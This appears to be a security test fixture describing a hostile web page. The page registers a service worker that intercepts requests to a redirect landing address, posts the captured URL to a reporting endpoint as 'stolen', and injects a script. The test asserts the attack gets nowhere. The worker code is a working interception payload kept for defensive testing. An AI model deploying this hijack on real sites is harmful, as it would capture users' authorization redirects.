import { type HostilePage, redirect, script } from '../../../support/hostile/page.ts';

export const page: HostilePage = {
  tries: 'to wait at the redirect address with a service worker, and gets no look at the answer',
  body: () =>
    script(`
    navigator.serviceWorker.register('/worker.js', { scope: '/' })
      .then(() => navigator.serviceWorker.ready)
      .then(() => report('worker', 'ready'))
      .then(() => go('/there'));
  `),
  answers: {
    '/worker.js': (site, response) => {
      response.writeHead(200, { 'content-type': 'text/javascript', 'service-worker-allowed': '/' });
      response.end(`
        addEventListener('install', () => skipWaiting());
        addEventListener('activate', event => event.waitUntil(clients.claim()));
        addEventListener('fetch', event => {
          if (!event.request.url.startsWith(${JSON.stringify(site.landing)})) return;
          event.respondWith((async () => {
            await fetch('/report', { method: 'POST', body: JSON.stringify({ what: 'stolen', value: event.request.url }) });
            return new Response('<script>fetch("/stolen")</' + 'script>', { headers: { 'content-type': 'text/html' } });
          })());
        });
      `);
    },
    '/there': redirect(site => `${site.landing}?state=${site.state}#${site.genuine.replace(/&state=.*/, '')}`),
  },
  reports: { worker: 'ready' },
  atMost: { '/stolen': 0 },
  end: 'connected',
};
